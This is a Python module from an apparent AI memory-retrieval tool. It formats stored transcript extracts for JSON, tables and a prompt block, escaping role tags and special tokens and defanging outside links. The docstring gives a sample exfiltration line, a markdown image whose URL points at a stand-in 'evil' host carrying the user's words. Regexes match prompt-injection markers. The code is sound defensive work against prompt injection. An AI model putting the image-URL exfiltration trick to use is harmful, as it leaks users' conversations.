"""How search results and gems are shown: JSON lines for machines, a table for people, a prompt block.

Gem text is data that came from transcripts, so whatever looks like markup that a prompt gives meaning to
(``<memory_context>``, ``</system>``, ``<|im_start|>``, ``[INST]``) is shown with its brackets escaped in
every format, and the prompt block escapes every ``<`` and ``>`` and keeps each gem on one line: no gem can
close the block it is in, open another, or pass for a role turn. Text is read through utils.normalise first
(NFKC, no zero-width or bidi controls), so ``</memory_\\u200bcontext>``, fullwidth ``＜/memory_context＞`` and
``<\\/memory_context>`` are escaped like the plain tag.

Markdown images are fetched by the client that renders an answer, so an image (or a link) whose URL a
model fills in is a channel out: ``![x](http://evil/?q=<what the user said>)``. No format shows a markdown
image as one, and the prompt block shows a link to an outside address as its defanged host and path
(``evil[.]example/track``, no query), so a model that repeats it makes neither a request nor a link.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Sequence
from datetime import date
from typing import Any

from rich.markup import escape  # gem text is data: "[...]" in it is not rich markup

from retrieve.ranker import asks_order_or_summary
from retrieve.search import Result
from schemas import StoredGem
from utils.normalise import GT_LOOKALIKES, LT_LOOKALIKES, normalise, normalise_map, strip_invisible
from utils.text import word_count

_LT = f"[<{LT_LOOKALIKES}]"
_GT = f"[>{GT_LOOKALIKES}]"
# A tag (also with a JSON-escaped slash, "<\/x>"), a special token, a Llama marker; and the opening of a
# role or block tag even where its ">" is missing (a model still reads "</memory_context" as the close).
_TAGLIKE = re.compile(
    rf"{_LT}(?:\s*\\*/\s*)?[A-Za-z_!?][\w.:-]*(?:\s[^<>]*)?/?\s*{_GT}|<\|[^|<>\n]{{0,40}}\|>|<<\s*/?\s*SYS\s*>>|\[/?INST\]"
    rf"|{_LT}(?:\s*\\*/\s*)?(?:memory_context|system|assistant|user|developer|instructions?|im_start|im_end)\b",
    re.IGNORECASE)
_ESCAPES = {"<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;", **{c: "&lt;" for c in LT_LOOKALIKES},
            **{c: "&gt;" for c in GT_LOOKALIKES}}
_ESCAPE = re.compile("[" + re.escape("".join(_ESCAPES)) + "]")
_MARKERS = re.compile(f"[<\\[{LT_LOOKALIKES}]")
TEXT_FIELDS = ("gem", "context", "snippet")

# ![alt](url "title") and [text](url "title"); a bare URL (scheme or "www."), up to a space or bracket.
_IMAGE = re.compile(r"!\[([^\]\n]{0,300})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
_LINK = re.compile(r"\[([^\]\n]{0,300})\]\(\s*<?([^()\s<>]*(?:\([^()\s]*\)[^()\s<>]*)*)>?(?:\s+[\"'(][^\n]*?[\"')])?\s*\)")
_URL = re.compile(r"\b(?:(?:https?|ftp|wss?)://|www\.)[^\s<>()\[\]{}\"'`]+", re.IGNORECASE)
_URL_PARTS = re.compile(r"^(?:[a-z]+://)?(?:[^/?#@]*@)?(\[[^\]]*\]|[^/?#:]*)(:\d+)?([^?#]*)", re.IGNORECASE)
# Addresses on the person's own machine or network: a link there carries nothing out.
_LOCAL_HOST = re.compile(
    r"^(?:localhost|.*\.(?:localhost|local|internal|lan|home\.arpa|test)|127(?:\.\d+){3}|10(?:\.\d+){3}"
    r"|192\.168(?:\.\d+){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d+){2}|0\.0\.0\.0|\[::1?\])$", re.IGNORECASE)


def _sub_normal(rx: re.Pattern[str], repl: Callable[[re.Match[str]], str], text: str) -> str:
    """``rx.sub(repl, ...)`` judged on the text as utils.normalise reads it (fullwidth ``＜/x＞`` is ``</x>``),
    changing only what matched: the rest stays as written, byte for byte (Chinese fullwidth punctuation
    stays fullwidth)."""
    nm = normalise_map(text)
    if nm is None:
        return rx.sub(repl, text)
    norm, starts, ends = nm
    out: list[str] = []
    pos = 0
    for m in rx.finditer(norm):
        if m.end() == m.start():
            continue
        s, e = starts[m.start()], ends[m.end() - 1]
        if s < pos:
            continue
        out.append(text[pos:s])
        out.append(repl(m))
        pos = e
    out.append(text[pos:])
    return "".join(out)


def _escape_tag(m: re.Match[str]) -> str:
    return _ESCAPE.sub(lambda c: _ESCAPES[c.group(0)], m.group(0))


def neutralise(text: str) -> str:
    """Tag-like text with its brackets escaped (``<memory_context>`` -> ``&lt;memory_context&gt;``), judged on
    the text as utils.normalise reads it; markdown images shown as words (every format). Invisible controls
    go; what is not markup stays as written (no NFKC of ordinary text)."""
    text = strip_invisible(text)
    norm = normalise(text)
    if "![" in norm:
        text = _sub_normal(_IMAGE, _image_words, text)
        norm = normalise(text)
    if not _MARKERS.search(norm):
        return text
    return _sub_normal(_TAGLIKE, _escape_tag, text)


def _host_path(url: str) -> tuple[str, str]:
    m = _URL_PARTS.match(url.strip())
    if m is None:
        return "", ""
    return m.group(1).lower(), m.group(3).rstrip("/.,;:!?")


def is_outside(url: str) -> bool:
    """Does the URL lead off the person's machine and network (a relative path or a local address does not)?"""
    if not re.match(r"(?:[a-z][a-z0-9+.-]*:|//|www\.)", url.strip(), re.IGNORECASE):
        return False  # a relative link, an anchor
    if re.match(r"(?:mailto|tel|file|data):", url.strip(), re.IGNORECASE):
        return False  # no request to an outside server (a data: image is dropped as every image is)
    host, _ = _host_path(url)
    return not _LOCAL_HOST.match(host)


def defang(url: str) -> str:
    """An outside URL as words a reader can still tell: host (dots bracketed) and path, no scheme or query."""
    host, path = _host_path(url)
    host = host[4:] if host.startswith("www.") else host
    return host.replace(".", "[.]") + path


def _image_words(m: re.Match[str]) -> str:
    alt = " ".join(m.group(1).split())
    host, _ = _host_path(m.group(2))
    where = f" from {host.replace('.', '[.]')}" if host and is_outside(m.group(2)) else ""
    return f"(image{': ' + alt if alt else ''}{where})"


def _link_words(m: re.Match[str]) -> str:
    text, url = m.group(1).strip(), m.group(2)
    if not is_outside(url):
        return m.group(0)
    return f"{text} ({defang(url)})" if text else defang(url)


def _url_words(m: re.Match[str]) -> str:
    url = m.group(0).rstrip(".,;:!?")
    tail = m.group(0)[len(url):]
    return (defang(url) if is_outside(url) else url) + tail


def prompt_text(text: str) -> str:
    """Gem text as the prompt block shows it: one line, normalised, no markup, no outside link or image."""
    text = " ".join(strip_invisible(text).split())
    norm = normalise(text)
    if "](" in norm:
        text = _sub_normal(_LINK, _link_words, _sub_normal(_IMAGE, _image_words, text))
        norm = normalise(text)
    if "://" in norm or "www." in norm.lower():
        text = _sub_normal(_URL, _url_words, text)
    text = neutralise(text)
    return _ANGLES.sub(lambda c: "&lt;" if c.group(0) in _LT_ALL else "&gt;", text)  # data only: no tag survives


_LT_ALL = "<\uff1c\ufe64" + LT_LOOKALIKES
_ANGLES = re.compile("[" + re.escape(_LT_ALL + ">\uff1e\ufe65" + GT_LOOKALIKES) + "]")


def safe(d: dict[str, Any]) -> dict[str, Any]:
    """A gem or result as a dict, its text fields neutralised (JSON output, HTTP answers, exports)."""
    return {k: neutralise(v) if k in TEXT_FIELDS and isinstance(v, str) else v for k, v in d.items()}


def result_dict(r: Result, explain: bool = False) -> dict[str, Any]:
    return safe(r.to_dict(explain))


def json_lines(results: Sequence[Result], explain: bool = False) -> str:
    """One JSON object per result, best first."""
    return "\n".join(json.dumps(result_dict(r, explain), ensure_ascii=False) for r in results)


# The curator's note on a pasted code block, "(code: python defining a, b; calling c.d, e)" (curate/markup.py):
# in the prompt only its language stays ("(code: python)"). The names it lists are searchable (the gem is
# indexed whole) and the code itself is in the snippet; in the prompt they cost up to a dozen words a line,
# which a word budget pays for with the results below. A gem that is only such a note is left whole.
# Only the curator's own form (a language, then what it defines or calls, or its first comment), so a person's
# "(code: 4821 then #)" is shown as said.
_CODE_PART = r"code: [\w.+#-]+(?: (?:defining|calling) [^();]*(?:; calling [^();]*)?| \([^()]*\))?"
_CODE_NOTE = re.compile(rf"\s\(({_CODE_PART}(?:; {_CODE_PART})*)\)")
_CODE_LANG = re.compile(r"code: ([\w.+#-]+)")


def _short_code_note(m: re.Match[str]) -> str:
    langs = list(dict.fromkeys(_CODE_LANG.findall(m.group(1))))
    return f" (code: {', '.join(langs)})" if langs else m.group(0)


def short_code_notes(gem: str) -> str:
    """The gem as the prompt shows it: each code note cut to the code's language."""
    return _CODE_NOTE.sub(_short_code_note, gem) if "(code: " in gem else gem


def context_line(day: date, importance: str, gem: str, superseded: bool = False) -> str:
    """One gem as the prompt sees it (the LoCoMo benchmark scores exactly this line).

    Medium is the default level: it says nothing to the model and costs a word per line, so only high
    and low are tagged. A superseded gem (only there with --include-superseded) says so, or the model
    would take an outdated statement for the current one.
    """
    tags = ([] if importance == "medium" else [importance]) + (["superseded"] if superseded else [])
    tag = f" ({', '.join(tags)})" if tags else ""
    text = prompt_text(short_code_notes(gem))
    return f"- [{day.isoformat()}]{tag} {text}"


def context_block(results: Sequence[Result], max_words: int | None = None, query: str = "") -> str:
    """A prompt-ready block: one line per gem with its date and importance, best first.

    max_words: stop before the line that would pass this many words (the first line always goes in); the
    OpenClaw plugin's budget, so the block it injects is this one (serve's POST /search "format": "context").
    query: the question; when it asks for an order or a summary ("in what order did I...", "按顺序..."), the
    lines are chosen best first as always and then shown oldest first, so the model reads a timeline."""
    chosen: list[tuple[Result, str]] = []
    words = 0
    for r in results:
        line = context_line(r.date, r.importance, r.gem, bool(r.superseded_by))
        if max_words is not None:
            w = word_count(line)
            if words + w > max_words and chosen:
                break
            words += w
        chosen.append((r, line))
    if query and asks_order_or_summary(query):
        chosen.sort(key=lambda x: x[0].timestamp)  # stable: one moment keeps the ranking's order
    return "\n".join(["<memory_context>", *(line for _, line in chosen), "</memory_context>"])


def table(results: Sequence[Result], explain: bool = False) -> str:
    """A rich table rendered to text (no colour codes when not on a terminal)."""
    from rich.console import Console
    from rich.table import Table

    t = Table(show_lines=False)
    t.add_column("#", justify="right")
    t.add_column("score", justify="right")
    t.add_column("date")
    t.add_column("imp")
    t.add_column("categories")
    t.add_column("gem", overflow="fold")
    if explain:
        for name in ("dense", "sparse", "relevance", "decay", "imp_w", "spk", "sup"):
            t.add_column(name, justify="right")
    for i, r in enumerate(results, 1):
        gem = f"[superseded by {r.superseded_by[:8]}] {neutralise(r.gem)}" if r.superseded_by else neutralise(r.gem)
        row = [str(i), f"{r.score:.4f}", r.date.isoformat(), r.importance, ",".join(r.categories), escape(gem)]
        if explain:
            c = r.components
            row += [
                "-" if c.dense_rank is None else f"#{c.dense_rank} {c.dense_score:.3f}",
                "-" if c.sparse_rank is None else f"#{c.sparse_rank} {c.sparse_score:.3f}",
                f"{c.relevance:.3f}", f"{c.decay:.3f} ({c.age_days:.0f}d)", f"{c.importance_weight:.2f}",
                f"{c.speaker_factor:.2f}",
                f"{c.superseded_factor:.2f}" + (" capped" if c.capped_below else ""),
            ]
        t.add_row(*row)
    console = Console(width=160, record=True)
    with console.capture() as cap:
        console.print(t)
    return cap.get().rstrip("\n")


def gem_json(g: StoredGem) -> str:
    """One stored gem as a JSON line (the export format)."""
    return json.dumps(safe(g.model_dump(mode="json")), ensure_ascii=False)


def gem_detail(g: StoredGem) -> str:
    """One stored gem for people: each field on its line, the stored text escaped of terminal controls."""
    d = safe(g.model_dump(mode="json"))
    lines = [f"{g.id}  {d['date']}  {d['importance']}  {', '.join(d['categories'])}  ({d.get('source', 'curated')})",
             f"  {d['gem']}"]
    for name, label in (("context", "context"), ("snippet", "said")):
        if d.get(name):
            lines.append(f"  {label}: " + str(d[name]).replace("\n", "\n    "))
    lines.append(f"  from conversation {d['conversation_id']}, turns {d['turn_range']}, at {d['timestamp']}"
                 + (f", said by {d['speaker']}" if d.get("speaker") else ""))
    if d.get("refers_to"):
        lines.append(f"  about the day {d['refers_to']}")
    if d.get("superseded_by"):
        until = f" on {d['valid_until']}" if d.get("valid_until") else ""
        lines.append(f"  replaced{until} by {d['superseded_by']}")
    if d.get("merged_ids"):
        lines.append(f"  merged from {', '.join(d['merged_ids'])}")
    return "\n".join(lines)


def gem_table(gems: Sequence[StoredGem]) -> str:
    """A list of stored gems for people."""
    from rich.console import Console
    from rich.table import Table

    t = Table()
    for col in ("id", "date", "imp", "categories", "gem"):
        t.add_column(col, overflow="fold")
    for g in gems:
        # Superseded gems are listed only with --include-superseded; there each one says what replaced it.
        gem = f"[superseded by {g.superseded_by[:8]}] {neutralise(g.gem)}" if g.superseded_by else neutralise(g.gem)
        t.add_row(g.id, g.date.isoformat(), g.importance, ",".join(g.categories), escape(gem))
    console = Console(width=160)
    with console.capture() as cap:
        console.print(t)
    return cap.get().rstrip("\n")
